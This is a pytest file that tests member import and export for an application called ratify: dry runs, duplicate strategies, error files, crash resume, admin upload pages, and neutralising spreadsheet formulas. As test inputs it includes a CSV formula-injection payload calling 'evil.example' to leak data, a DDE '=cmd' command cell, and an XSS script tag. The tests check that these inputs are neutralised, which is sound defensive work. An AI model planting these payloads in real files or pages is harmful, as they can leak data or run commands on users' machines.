"""
Member import and export (issue 4, item 7), against the real binary: the
command line (dry run, apply, duplicates, the error file, resuming after the
process is killed), the admin pages (a 1,000-row spreadsheet imported with a
dry run first, a larger one over several page views, downloads), formula
cells neutralised in CSV and written as plain strings in XLSX, and an export
that imports back into a fresh database unchanged.
"""

import csv
import io
import os
import random
import re
import signal
import stat
import subprocess
import time
import zipfile
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from ratify_server import SLOW, QueryError, RatifyServer, db_query, ratify_bin

HEADER = ["name", "email", "country", "kind", "organisation", "org_type", "website",
          "languages", "listing", "status", "consent_updates", "created"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1", "-1", "@SUM(A1:A9)"]
ROW_LINE = re.compile(r"^row (\d+) +(create|update|fill|skip|error)\b", re.M)


# ---- helpers ----

@pytest.fixture
def site(tmp_path):
    """A database made by `ratify init`, for the command line only."""
    srv = RatifyServer(tmp_path / "ratify")
    p = srv.cli("init")
    assert p.returncode == 0, p.stderr
    return srv


def write_csv(path, rows, header=None):
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(header or HEADER)
        w.writerows(rows)
    return str(path)


def query(db, sql, *args):
    # Reads: the import's effect on every table (and that a dry run or a
    # refused file writes nothing anywhere, mail and accounts included), its
    # job row's progress while it runs, and the audit rows' content. The
    # data itself is only ever made by the import under test.
    return db_query(db, sql, *args)


def scalar(db, sql, *args):
    return query(db, sql, *args)[0][0]


def import_cli(srv, path, *args, expect=0):
    p = srv.cli("import", "members", str(path), *args, timeout=120 * SLOW)
    assert p.returncode == expect, f"exit {p.returncode}:\n{p.stdout}\n{p.stderr}"
    return p


def actions(output):
    """{line: action} from the per-row report."""
    return {int(m.group(1)): m.group(2) for m in ROW_LINE.finditer(output)}


def people_snapshot(db):
    return query(db, "SELECT p.email, p.name, coalesce(p.iso3, ''), p.languages, p.listing, "
                     "m.kind, m.status, m.consent_updates FROM people p "
                     "LEFT JOIN memberships m ON m.person_id = p.id ORDER BY p.email, m.id")


def export_csv(srv):
    """`ratify export members --out FILE`, as bytes (standard output would be
    read in text mode, which rewrites the CRLF line ends)."""
    out = srv.dir / "export.csv"
    p = srv.cli("export", "members", "--out", str(out))
    assert p.returncode == 0, p.stderr
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600, "personal data: owner only"
    data = out.read_bytes()
    out.unlink()
    return data


class Forms(HTMLParser):
    """The forms of a page as a browser sees them: action, and the values it
    would submit (hidden and text inputs, selected options)."""

    def __init__(self, html):
        super().__init__()
        self.forms, self._select = [], None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append({"action": a.get("action"), "fields": {}})
        elif not self.forms:
            return
        elif tag == "input" and a.get("name") and a.get("type") != "file":
            self.forms[-1]["fields"][a["name"]] = a.get("value", "")
        elif tag == "select":
            self._select = a.get("name")
            self.forms[-1]["fields"].setdefault(self._select, None)
        elif tag == "option" and self._select:
            fields = self.forms[-1]["fields"]
            if "selected" in a or fields[self._select] is None:
                fields[self._select] = a.get("value", "")

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None

    def with_step(self, step):
        for f in self.forms:
            if f["fields"].get("step") == step:
                return f["fields"]
        raise AssertionError(f"no form with step={step}: {self.forms}")


def post_form(client, fields, files=None):
    """POSTs fields as multipart/form-data, like the page's forms."""
    parts = {k: (None, v) for k, v in fields.items()}
    parts.update(files or {})
    return client.post("/admin/members/import", files=parts)


def member_rows(n, seed=7, domain="example.org"):
    """n realistic rows under HEADER: a fifth organisations."""
    rng = random.Random(seed)
    first = ["Ana", "José", "Amina", "Kwame", "Priya", "Olga", "Layla", "Kenji", "Rosa", "Tendai"]
    last = ["Pérez", "Mensah", "Haddad", "Sharma", "Ivanova", "Moyo", "Silva", "Kim", "Diallo"]
    countries = ["ARG", "Kenya", "FRA", "India", "BRA", "Morocco", "PHL", "Germany", "ZAF"]
    rows = []
    for i in range(n):
        org = rng.random() < 0.2
        rows.append([
            f"{rng.choice(first)} {rng.choice(last)}", f"member{i}@{domain}",
            rng.choice(countries), "organisation" if org else "",
            f"Rights Network {i}" if org else "", "human_rights_ngo" if org else "",
            f"https://network{i}.example.org" if org and i % 2 else "",
            rng.choice(["en", "es", "fr ar", "en sw", ""]),
            rng.choice(["", "public", "members", "hidden"]),
            rng.choice(["", "active", "lapsed"]), rng.choice(["yes", "no", ""]),
            f"20{10 + i % 15:02d}-0{1 + i % 9}-1{i % 9}"])
    return rows


# ---- the command line ----

def test_dry_run_writes_nothing_and_apply_imports(site, tmp_path):
    path = write_csv(tmp_path / "m.csv", [
        ["Ana Pérez", "Ana@Example.org", "Argentina", "", "", "", "", "es en", "", "", "yes",
         "2015-06-01"],
        ["Kwame Mensah", "kwame@example.org", "GHA", "", "Ghana Housing Rights Forum",
         "Human rights NGO", "https://ghrf.example.org", "en", "public", "", "no", ""],
        ["Bad Address", "not-an-email", "FRA", "", "", "", "", "", "", "", "", ""],
        ["Nowhere", "nowhere@example.org", "Atlantis", "", "", "", "", "", "", "", "", ""],
        ["Lapsed", "lapsed@example.org", "KEN", "individual", "", "", "", "", "members",
         "lapsed", "", ""],
    ])
    before = scalar(site.db, "SELECT count(*) FROM audit_log")
    p = import_cli(site, path)
    assert actions(p.stdout) == {2: "create", 3: "create", 4: "error", 5: "error", 6: "create"}
    assert "email: not a valid email address" in p.stdout
    assert "country: unknown country" in p.stdout
    assert "3 to create" in p.stdout and "2 rejected" in p.stdout
    assert "nothing was written" in p.stdout
    # No personal data on the terminal: the output may go to a log.
    assert "ana@example.org" not in p.stdout.lower() and "Pérez" not in p.stdout
    for table in ("people", "organisations", "memberships", "member_imports"):
        assert scalar(site.db, f"SELECT count(*) FROM {table}") == 0, table
    assert scalar(site.db, "SELECT count(*) FROM audit_log") == before

    p = import_cli(site, path, "--apply")
    assert actions(p.stdout) == {2: "create", 3: "create", 4: "error", 5: "error", 6: "create"}
    assert "3 created" in p.stdout
    assert query(site.db, "SELECT name, iso3, languages, listing FROM people ORDER BY id") == [
        ("Ana Pérez", "ARG", "es en", "hidden"),       # individuals hidden by default
        ("Kwame Mensah", "GHA", "en", "hidden"),       # a contact person is not listed
        ("Lapsed", "KEN", "", "members")]
    assert query(site.db, "SELECT name, org_type, website, listing FROM organisations") == [
        ("Ghana Housing Rights Forum", "human_rights_ngo", "https://ghrf.example.org", "public")]
    rows = query(site.db, "SELECT kind, status, consent_updates, consent_store_at, created_at, "
                          "not_government FROM memberships ORDER BY id")
    now = time.time()
    assert [r[:3] for r in rows] == [("individual", "active", 1), ("organisation", "active", 0),
                                     ("individual", "lapsed", 0)]
    assert all(abs(r[3] - now) < 120 for r in rows), "consent is recorded at import time"
    assert rows[0][4] == 1433116800  # 2015-06-01
    assert all(r[5] == 1 for r in rows)
    # No accounts, no email.
    assert scalar(site.db, "SELECT count(*) FROM users") == 1  # the admin made by init
    assert scalar(site.db, "SELECT count(*) FROM people WHERE user_id IS NOT NULL") == 0
    assert scalar(site.db, "SELECT count(*) FROM mail_queue") == 0
    # The audit log has the counts and no personal data.
    audit = query(site.db, "SELECT action, object, detail FROM audit_log "
                           "WHERE action = 'members imported'")
    assert audit == [("members imported", "member import 1",
                      "5 rows: 3 created, 0 updated, 0 filled, 0 skipped, 2 rejected")]
    everything = " ".join(str(v) for row in query(site.db, "SELECT * FROM audit_log") for v in row)
    assert "example.org" not in everything and "Pérez" not in everything

    # The same file again: not imported twice.
    p = import_cli(site, path, "--apply")
    assert "already imported" in p.stdout
    assert scalar(site.db, "SELECT count(*) FROM memberships") == 3
    assert scalar(site.db, "SELECT count(*) FROM member_imports") == 1


def test_error_file(site, tmp_path):
    path = write_csv(tmp_path / "m.csv", [
        ["Good", "good@example.org", "ARG", "", "", "", "", "", "", "", "", ""],
        ["=cmd|' /C calc'!A0", "bad", "ARG", "", "", "", "", "", "", "", "", ""],
        ["Long " + "x" * 200, "long@example.org", "ARG", "", "", "", "", "", "", "", "", ""],
        ["Org without type", "org@example.org", "ARG", "", "Some Org", "", "", "", "", "",
         "", ""],
        ["Status", "status@example.org", "ARG", "", "", "", "", "", "", "approved", "", ""],
        ["Control\x01", "ctl@example.org", "ARG", "", "", "", "", "", "", "", "", ""],
    ], header=HEADER + ["Notes"])
    # Invalid UTF-8 in one row, written as bytes.
    with open(path, "ab") as f:
        f.write(b"Bad \xff bytes,bytes@example.org,ARG,,,,,,,,,,keep me\n")
    errors = tmp_path / "errors.csv"
    p = import_cli(site, path, "--apply", "--errors", str(errors))
    assert "6 rejected row(s) written" in p.stdout
    assert stat.S_IMODE(os.stat(errors).st_mode) == 0o600, "personal data: owner only"
    raw = errors.read_bytes()
    assert b"Bad \xff bytes" in raw, "the original bytes, so the row can be fixed"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8", "replace"))))
    assert rows[0] == HEADER + ["Notes", "error"]
    by_email = {r[1]: r for r in rows[1:]}
    assert set(by_email) == {"bad", "long@example.org", "org@example.org",
                             "status@example.org", "ctl@example.org", "bytes@example.org"}
    assert by_email["bad"][-1] == "email: not a valid email address"
    assert by_email["bad"][0] == "'=cmd|' /C calc'!A0", "a formula stays harmless"
    assert by_email["long@example.org"][-1] == "name: too long"
    assert by_email["org@example.org"][-1] == "org_type: required"
    assert by_email["status@example.org"][-1].startswith("status: must be pending")
    assert by_email["ctl@example.org"][-1] == "name: invalid UTF-8 or control characters"
    assert by_email["bytes@example.org"][-2] == "keep me"
    assert by_email["bytes@example.org"][-1] == "name: invalid UTF-8 or control characters"
    assert scalar(site.db, "SELECT count(*) FROM people") == 1
    # Fixed and imported again, the error file goes through cleanly.
    fixed = tmp_path / "fixed.csv"
    text = errors.read_bytes().replace(b"Bad \xff bytes", b"Bad bytes")
    text = text.replace(b",bad,", b",bad@example.org,").replace(b",approved,", b",active,")
    fixed.write_bytes(text)
    p = import_cli(site, fixed, "--map", "error=ignore")
    assert actions(p.stdout)[2] == "create"  # the formula name, as a plain name


def test_mapping_by_hand(site, tmp_path):
    path = write_csv(tmp_path / "m.csv", [["Ana", "ana@example.org", "Chile", "x"]],
                     header=["Nombre", "Correo", "País", "Notas"])
    p = import_cli(site, path, expect=2)
    assert "no column is mapped to name" in p.stderr
    p = import_cli(site, path, "--map", "Nombre=name", "--map", "correo=email",
                   "--map", "País=country", "--apply")
    assert '"Notas" ignored' in p.stdout
    assert query(site.db, "SELECT name, email, iso3 FROM people") == [
        ("Ana", "ana@example.org", "CHL")]
    p = import_cli(site, path, "--map", "Nada=name", expect=2)
    assert "no column 'Nada'" in p.stderr


def test_country_names_in_any_language(site, tmp_path):
    # A coalition's spreadsheet names countries in its own language: any
    # language's name is accepted, case aside; a near miss is still refused.
    path = write_csv(tmp_path / "m.csv", [
        ["Ana", "ana@example.org", "ALEMANIA"],
        ["Bea", "bea@example.org", "égypte"],
        ["Chi", "chi@example.org", "الأرجنتين"],
        ["Dee", "dee@example.org", "Allemagn"],
    ], header=["name", "email", "country"])
    p = import_cli(site, path, "--apply")
    assert actions(p.stdout) == {2: "create", 3: "create", 4: "create", 5: "error"}
    assert "country: unknown country (use an ISO3 code or the country's name)" in p.stdout
    assert query(site.db, "SELECT email, iso3 FROM people ORDER BY email") == [
        ("ana@example.org", "DEU"), ("bea@example.org", "EGY"), ("chi@example.org", "ARG")]


def test_duplicates_with_each_strategy(site, tmp_path):
    base = write_csv(tmp_path / "base.csv", [
        ["Ana Pérez", "ana@example.org", "ARG", "", "", "", "", "", "public", "", "", ""],
        ["Bo", "bo@example.org", "KEN", "", "", "", "", "en", "hidden", "active", "no", ""],
        ["Cy", "cy@example.org", "FRA", "", "Cy's Union", "trade_union", "", "", "members", "",
         "", ""],
    ])
    import_cli(site, base, "--apply")
    again = [
        ["Ana María Pérez", "ANA@example.org", "ARG", "", "", "", "", "es", "", "", "", ""],
        ["Bo Banda", "bo@example.org", "Kenya", "", "", "", "", "fr", "members", "lapsed",
         "yes", ""],
        ["Cy", "cy@example.org", "FRA", "", "cy's union", "trade_union",
         "https://union.example.org", "", "", "", "", ""],
        ["New", "new@example.org", "BRA", "", "", "", "", "", "", "", "", ""],
    ]

    def person(email):
        return query(site.db, "SELECT p.name, p.languages, p.listing, m.status, "
                              "m.consent_updates FROM people p JOIN memberships m "
                              "ON m.person_id = p.id WHERE p.email = ? ORDER BY m.id",
                     email)[0]

    def website():
        return scalar(site.db, "SELECT website FROM organisations")

    snapshot = people_snapshot(site.db)
    p = import_cli(site, write_csv(tmp_path / "skip.csv", again), "--on-duplicate", "skip",
                   "--apply")
    assert actions(p.stdout) == {2: "skip", 3: "skip", 4: "skip", 5: "create"}
    assert [r for r in people_snapshot(site.db) if r[0] != "new@example.org"] == snapshot

    p = import_cli(site, write_csv(tmp_path / "fill.csv", again), "--on-duplicate", "fill",
                   "--apply")
    # Ana had no languages and Cy's union no website: filled. Bo had it all.
    assert actions(p.stdout) == {2: "fill", 3: "skip", 4: "fill", 5: "skip"}
    assert person("ana@example.org")[:3] == ("Ana Pérez", "es", "public")
    assert person("bo@example.org") == ("Bo", "en", "hidden", "active", 0)
    assert website() == "https://union.example.org"

    p = import_cli(site, write_csv(tmp_path / "update.csv", again), "--on-duplicate", "update",
                   "--apply")
    assert actions(p.stdout) == {2: "update", 3: "update", 4: "skip", 5: "skip"}
    assert person("ana@example.org")[:3] == ("Ana María Pérez", "es", "public")
    assert person("bo@example.org") == ("Bo Banda", "fr", "members", "lapsed", 1)
    # Never a second person for the same address, whatever the case.
    assert scalar(site.db, "SELECT count(*) FROM people") == 4
    assert scalar(site.db, "SELECT count(*) FROM organisations") == 1


def test_repeated_rows_in_one_file(site, tmp_path):
    path = write_csv(tmp_path / "m.csv", [
        ["Ana", "ana@example.org", "ARG", "", "", "", "", "", "", "", "", ""],
        ["Ana", "ana@example.org", "ARG", "", "", "", "", "", "", "", "", ""],
        ["Ana", "ana@example.org", "ARG", "", "Ana's Org", "other", "", "", "", "", "", ""],
    ])
    dry = import_cli(site, path)
    applied = import_cli(site, path, "--apply")
    # The dry run runs the real import and rolls it back: it cannot differ.
    assert actions(dry.stdout) == actions(applied.stdout) == {2: "create", 3: "skip",
                                                              4: "create"}
    assert scalar(site.db, "SELECT count(*) FROM people") == 1
    assert scalar(site.db, "SELECT count(*) FROM memberships") == 2


def test_export_then_import_round_trips(site, tmp_path):
    rows = member_rows(300)
    rows += [
        # One person with two memberships, a name that needs quoting, and
        # names that start like formulas.
        ["Dual, Member \"Q\"", "dual@example.org", "CHL", "individual", "", "", "", "es",
         "public", "active", "yes", "2012-02-29"],
        ["Dual, Member \"Q\"", "dual@example.org", "CHL", "organisation", "Dual's Collective",
         "community_organisation", "", "es en", "members", "left", "no", "2013-01-01"],
        [FORMULAS[0], "formula0@example.org", "ARG", "", "", "", "", "", "", "", "", ""],
        ["-Minus", "formula1@example.org", "ARG", "", "@org", "other", "", "", "", "", "", ""],
    ]
    import_cli(site, write_csv(tmp_path / "m.csv", rows), "--apply")
    first = export_csv(site)
    assert first.count(b"\r\n") == len(rows) + 1
    fresh = RatifyServer(tmp_path / "fresh")
    assert fresh.cli("init").returncode == 0
    exported = tmp_path / "export.csv"
    exported.write_bytes(first)
    p = import_cli(fresh, exported, "--apply")
    assert "0 rejected" in p.stdout
    assert export_csv(fresh) == first


def test_formula_cells_are_neutralised(site, tmp_path):
    rows = [[name, f"f{i}@example.org", "ARG", "", "", "", "", "", "", "", "", ""]
            for i, name in enumerate(FORMULAS)]
    rows.append(["Org", "org@example.org", "ARG", "", "=1+1", "other", "", "", "", "", "", ""])
    import_cli(site, write_csv(tmp_path / "m.csv", rows), "--apply")
    out = export_csv(site).decode("utf-8")
    cells = list(csv.reader(io.StringIO(out)))
    # Standard output gets the same.
    p = site.cli("export", "members")
    assert p.returncode == 0 and p.stdout == out.replace("\r\n", "\n")
    names = [r[0] for r in cells[1:5]]
    assert names == ["'" + f for f in FORMULAS]
    assert cells[5][4] == "'=1+1"
    for row in cells:
        for value in row:
            assert not value or value[0] not in "=+-@\t\r", f"live formula: {value!r}"

    xlsx = tmp_path / "out.xlsx"
    p = site.cli("export", "members", "--format", "xlsx", "--out", str(xlsx))
    assert p.returncode == 0, p.stderr
    assert stat.S_IMODE(os.stat(xlsx).st_mode) == 0o600
    check_xlsx(xlsx.read_bytes())
    # xlsx needs a file.
    assert site.cli("export", "members", "--format", "xlsx").returncode == 2


NS = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def check_xlsx(data):
    """The sheet has no formula element, every cell is a string, and the text
    is kept (behind the protective apostrophe)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = ET.fromstring(z.read("xl/sharedStrings.xml"))
    assert "<f>" not in sheet and "<f " not in sheet
    root = ET.fromstring(sheet)
    cells = root.findall(".//s:c", NS)
    assert cells and all(c.get("t") == "s" for c in cells), "every cell a string"
    texts = ["".join(t.text or "" for t in si.iter(f"{{{NS['s']}}}t"))
             for si in strings.findall("s:si", NS)]
    for f in FORMULAS:
        assert "'" + f in texts, f
    assert "name" in texts and "email" in texts


def run_until_stopped(srv, path, total):
    """Starts `import --apply`, freezes it once some batches are committed,
    and kills it. Returns the rows_done it left, or None if the import
    finished before it could be stopped."""
    proc = subprocess.Popen([ratify_bin(), "import", "members", str(path), "--apply", "--db",
                             srv.db], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            cwd=srv.dir, env=srv.env())
    done = 0
    deadline = time.monotonic() + 60 * SLOW
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            try:
                rows = query(srv.db, "SELECT rows_done FROM member_imports")
            except QueryError:  # the database or the table is being created
                rows = []
            if rows and rows[0][0] > 0:
                proc.send_signal(signal.SIGSTOP)
                break
            time.sleep(0.002)
        if proc.poll() is not None:
            return None
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
        done = scalar(srv.db, "SELECT rows_done FROM member_imports")
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    return done if done < total else None


def test_resumes_after_a_crash(tmp_path):
    total = 100_000  # four batches of 25,000 rows (BATCH_ROWS)
    rng = random.Random(3)
    # Some addresses come back later in the file (and in another case).
    emails = [f"person{i}@example.org" for i in range(total)]
    for i in range(0, total, 7):
        emails[i] = f"PERSON{rng.randrange(i + 1)}@example.org"
    rows = [[f"Person {i}", e, rng.choice(["ARG", "KEN", "IND"]), "", "", "", "", "", "", "",
             "", ""] for i, e in enumerate(emails)]
    for attempt in range(3):
        srv = RatifyServer(tmp_path / f"try{attempt}")
        assert srv.cli("init").returncode == 0
        path = write_csv(tmp_path / "big.csv", rows)
        done = run_until_stopped(srv, path, total)
        if done is not None:
            break
    else:
        pytest.fail("the import always finished before it could be killed")
    assert 0 < done < total
    # Each batch's rows and rows_done were committed together: exactly the
    # people of the first `done` rows are there.
    distinct_before = len({e.lower() for e in emails[:done]})
    assert scalar(srv.db, "SELECT count(*) FROM people") == distinct_before
    assert scalar(srv.db, "SELECT status FROM member_imports") == "running"

    p = import_cli(srv, path, "--apply")
    assert f"Resuming import 1 at row {done + 1} of {total}" in p.stdout
    assert min(actions(p.stdout)) == done + 2  # file lines: the header is line 1
    distinct = len({e.lower() for e in emails})
    assert scalar(srv.db, "SELECT count(*) FROM people") == distinct
    assert scalar(srv.db, "SELECT count(DISTINCT lower(email)) FROM people") == distinct
    assert query(srv.db, "SELECT status, rows_done, total_rows FROM member_imports") == [
        ("done", total, total)]
    created, skipped = query(srv.db, "SELECT created, skipped FROM member_imports")[0]
    assert (created, skipped) == (distinct, total - distinct)
    assert srv.cli("check").returncode == 0
    p = import_cli(srv, path, "--apply")
    assert "already imported" in p.stdout


def test_progress_on_stderr(site, tmp_path):
    # Four batches of 25,000 rows (BATCH_ROWS): progress after each.
    path = write_csv(tmp_path / "m.csv", member_rows(100_000, domain="progress.example.org"))
    p = import_cli(site, path, "--apply")
    # Not a terminal: a line every tenth, on stderr only.
    lines = [line for line in p.stderr.splitlines() if line.startswith("import: ")]
    assert lines[-1] == "import: 100% (100000 of 100000 rows)"
    assert 3 <= len(lines) <= 11
    assert "import:" not in p.stdout


# ---- the admin pages ----

def test_admin_imports_a_spreadsheet_of_1000_members_with_a_dry_run_first(server, tmp_path):
    admin = server.member("admin")
    c = server.login_user(admin)
    rows = member_rows(1000, seed=11, domain="spreadsheet.example.org")
    text = io.StringIO()
    w = csv.writer(text)
    w.writerow(["Full name", "E-mail", "Country", "Kind", "Organization", "Type", "Website",
                "Languages", "Listing", "Status", "Consent updates", "Member since", "Notes"])
    for r in rows:
        w.writerow(r + ["called in March"])
    data = text.getvalue().encode("utf-8")
    count = "SELECT count(*) FROM people WHERE email LIKE '%@spreadsheet.example.org'"
    jobs = "SELECT count(*) FROM member_imports"
    jobs_before = scalar(server.db, jobs)

    page = c.get("/admin/members/import")
    assert page.status_code == 200
    form = Forms(page.text).with_step("map")
    r = post_form(c, form, files={"file": ("members.csv", data, "text/csv")})
    assert r.status_code == 200, r.text[:3000]
    # The mapping step: each column with its target, recognised by name.
    mapping = Forms(r.text).with_step("preview")
    expected = ["name", "email", "country", "kind", "organisation", "org_type", "website",
                "languages", "listing", "status", "consent_updates", "created", ""]
    assert [mapping[f"map_{i}"] for i in range(13)] == expected
    assert "called in March" in r.text  # the first row, as a sample
    assert scalar(server.db, count) == 0

    # The dry run: every row, the totals, nothing written.
    r = post_form(c, mapping)
    assert r.status_code == 200, r.text[:3000]
    assert r.text.count('<tr><td>') + r.text.count('<tr class="problem">') >= 1000
    assert re.search(r"<strong>1000</strong> to create", r.text), r.text[:5000]
    assert "<strong>0</strong> rejected" in r.text
    assert scalar(server.db, count) == 0
    assert scalar(server.db, jobs) == jobs_before

    apply = Forms(r.text).with_step("apply")
    r = post_form(c, apply)
    assert r.status_code == 303, r.text[:2000]
    job = r.headers["Location"]
    assert re.fullmatch(r"/admin/members/import/\d+", job)
    r = c.get(job)
    assert r.status_code == 200
    assert "1000 of 1000 rows" in r.text
    assert "http-equiv=\"refresh\"" not in r.text and "Refresh" not in r.headers
    assert scalar(server.db, count) == 1000
    assert query(server.db, "SELECT a.detail, u.email FROM audit_log a JOIN users u "
                            "ON u.id = a.user_id WHERE a.action = 'members imported' "
                            "ORDER BY a.id DESC LIMIT 1") == [
        ("1000 rows: 1000 created, 0 updated, 0 filled, 0 skipped, 0 rejected", admin.email)]
    # The uploaded file is not kept once imported.
    assert scalar(server.db, "SELECT count(*) FROM member_import_files") == 0
    # The upload gave its file to the job, which dropped it when done.
    assert scalar(server.db, "SELECT count(*) FROM member_import_uploads "
                             "WHERE content IS NOT NULL") == 0
    # Applying the same form again (a double click) leads to the same job
    # and imports nothing twice.
    r = post_form(c, apply)
    assert r.status_code == 303 and r.headers["Location"] == job
    assert scalar(server.db, count) == 1000
    # Another upload of it: an upload of its own, whose dry run skips all.
    r = post_form(c, form, files={"file": ("members.csv", data, "text/csv")})
    again = Forms(r.text).with_step("preview")
    assert again["upload"] != mapping["upload"]
    r = post_form(c, again)
    assert "<strong>1000</strong> to skip" in r.text
    assert scalar(server.db, count) == 1000
    # A second upload's apply posted anyway finds the job done: not twice.
    r = post_form(c, dict(apply, upload=again["upload"]))
    assert r.status_code == 200 and "already imported" in r.text
    assert scalar(server.db, count) == 1000
    assert scalar(server.db, "SELECT count(*) FROM member_import_uploads "
                             "WHERE content IS NOT NULL") == 0


def test_admin_import_runs_over_several_page_views(server, tmp_path):
    admin = server.member("admin")
    c = server.login_user(admin)
    rows = member_rows(4500, seed=5, domain="views.example.org")
    data = ("\r\n".join(",".join(f'"{v}"' for v in r) for r in [HEADER] + rows) + "\r\n")
    token = Forms(c.get("/admin/members/import").text).with_step("map")["csrf_token"]
    r = post_form(c, {"csrf_token": token, "step": "map", "on_duplicate": "skip"},
                  files={"file": ("m.csv", data.encode(), "text/csv")})
    r = post_form(c, Forms(r.text).with_step("preview"))
    assert "<strong>4500</strong> to create" in r.text
    r = post_form(c, Forms(r.text).with_step("apply"))
    job = r.headers["Location"]
    seen = []
    for _ in range(5):
        r = c.get(job)
        assert r.status_code == 200
        m = re.search(r"(\d+) of 4500 rows", r.text)
        seen.append(int(m.group(1)))
        if seen[-1] < 4500:
            assert r.headers.get("Refresh") == "1"
            assert '<meta http-equiv="refresh" content="1">' in r.text
        else:
            break
    assert seen == [2000, 4000, 4500]
    assert scalar(server.db, "SELECT count(*) FROM people "
                             "WHERE email LIKE '%@views.example.org'") == 4500
    listing = c.get("/admin/members/import").text
    assert job in listing


def csv_bytes(rows):
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([HEADER] + rows)
    return text.getvalue().encode("utf-8")


def hidden_fields_are_small(html):
    """The pages carry the upload's id, never the file: no field of any
    form is longer than a token."""
    for form in Forms(html).forms:
        for name, value in form["fields"].items():
            assert value is None or len(value) <= 128, (name, len(value))


def test_admin_imports_a_file_over_700_kib_with_only_its_id_in_the_pages(server):
    """The file is stored on the server at its upload: the mapping step, the
    dry run and the apply carry its id, not the file (issue 9, item 7)."""
    import base64
    c = server.login_user(server.member("admin"))
    rows = member_rows(7000, seed=23, domain="large.example.org")
    for r in rows:  # longer names, so that 7000 rows make more than 700 KiB
        r[0] = r[0] + " de la Fuente y Ochoa-Mbeki"
    data = csv_bytes(rows)
    assert 700 * 1024 < len(data) < 1000 * 1024, len(data)
    chunks = [base64.b64encode(data[i:i + 300]).decode()[:200] for i in (0, 90_000, 700_000)]
    raw = data[500_000:500_400].decode("utf-8", "replace")
    last_email = rows[-1][1]

    def carries_no_file(r):
        assert r.status_code == 200, r.text[:3000]
        for chunk in chunks:
            assert chunk not in r.text
        assert raw not in r.text and last_email not in r.text
        hidden_fields_are_small(r.text)

    token = Forms(c.get("/admin/members/import").text).with_step("map")["csrf_token"]
    r = post_form(c, {"csrf_token": token, "step": "map", "on_duplicate": "skip"},
                  files={"file": ("large.csv", data, "text/csv")})
    carries_no_file(r)
    mapping = Forms(r.text).with_step("preview")
    assert re.fullmatch(r"\d+", mapping["upload"])
    assert "content" not in mapping
    r = post_form(c, mapping)
    carries_no_file(r)
    assert "<strong>7000</strong> to create" in r.text
    apply = Forms(r.text).with_step("apply")
    assert sum(len(v or "") for v in apply.values()) < 1000
    r = post_form(c, apply)
    assert r.status_code == 303, r.text[:2000]
    job = r.headers["Location"]
    for _ in range(6):
        r = c.get(job)
        assert r.status_code == 200
        if "7000 of 7000 rows" in r.text:
            break
    assert "7000 of 7000 rows" in r.text
    assert scalar(server.db, "SELECT count(*) FROM people "
                             "WHERE email LIKE '%@large.example.org'") == 7000
    assert scalar(server.db, "SELECT count(*) FROM member_import_files") == 0
    assert scalar(server.db, "SELECT count(*) FROM member_import_uploads "
                             "WHERE content IS NOT NULL") == 0


def test_another_admins_upload_is_not_found(server):
    owner = server.login_user(server.member("admin"))
    token = Forms(owner.get("/admin/members/import").text).with_step("map")["csrf_token"]
    data = csv_bytes(member_rows(20, seed=31, domain="theirs.example.org"))
    r = post_form(owner, {"csrf_token": token, "step": "map", "on_duplicate": "skip"},
                  files={"file": ("m.csv", data, "text/csv")})
    mapping = Forms(r.text).with_step("preview")
    upload = mapping["upload"]
    assert scalar(server.db, "SELECT count(*) FROM member_import_uploads WHERE id = ?",
                  int(upload)) == 1

    other = server.login_user(server.member("admin"))
    other_token = Forms(other.get("/admin/members/import").text).with_step("map")["csrf_token"]
    for step in ("preview", "errors", "apply"):
        form = dict(mapping, csrf_token=other_token, step=step)
        r = post_form(other, form)
        assert r.status_code == 404, (step, r.status_code)
        assert "theirs.example.org" not in r.text
    # Ids that do not exist, or are not ids, are not found either.
    for bad in (str(int(upload) + 1000), "0", "-1", "x", ""):
        r = post_form(other, dict(mapping, csrf_token=other_token, upload=bad))
        assert r.status_code == 404, (bad, r.status_code)
    assert scalar(server.db, "SELECT count(*) FROM people "
                             "WHERE email LIKE '%@theirs.example.org'") == 0
    assert scalar(server.db, "SELECT count(*) FROM member_import_uploads WHERE id = ? "
                             "AND content IS NOT NULL AND import_id IS NULL", int(upload)) == 1
    # The owner still can.
    r = post_form(owner, mapping)
    assert r.status_code == 200 and "<strong>20</strong> to create" in r.text


def test_admin_dry_run_lists_errors_and_offers_them_as_csv(server):
    admin = server.member("admin")
    c = server.login_user(admin)
    data = ("name,email,country\n"
            "<script>alert(1)</script>,xss@errors.example.org,ARG\n"
            "No Email,,ARG\n"
            "Bad Country,bad@errors.example.org,Narnia\n").encode()
    token = Forms(c.get("/admin/members/import").text).with_step("map")["csrf_token"]
    r = post_form(c, {"csrf_token": token, "step": "map", "on_duplicate": "skip"},
                  files={"file": ("m.csv", data, "text/csv")})
    r = post_form(c, Forms(r.text).with_step("preview"))
    assert r.status_code == 200
    assert "<script>alert(1)</script>" not in r.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in r.text
    assert "email: required" in r.text and "country: unknown country" in r.text
    assert r.text.count('class="problem"') == 2
    errors = post_form(c, Forms(r.text).with_step("errors"))
    assert errors.status_code == 200
    assert errors.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in errors.headers["Content-Disposition"]
    assert list(csv.reader(io.StringIO(errors.text))) == [
        ["name", "email", "country", "error"],
        ["No Email", "", "ARG", "email: required"],
        ["Bad Country", "bad@errors.example.org", "Narnia",
         "country: unknown country (use an ISO3 code or the country's name)"]]
    assert scalar(server.db, "SELECT count(*) FROM people "
                             "WHERE email LIKE '%@errors.example.org'") == 0


def test_admin_mapping_errors_are_shown(server):
    c = server.login_user(server.member("admin"))
    token = Forms(c.get("/admin/members/import").text).with_step("map")["csrf_token"]
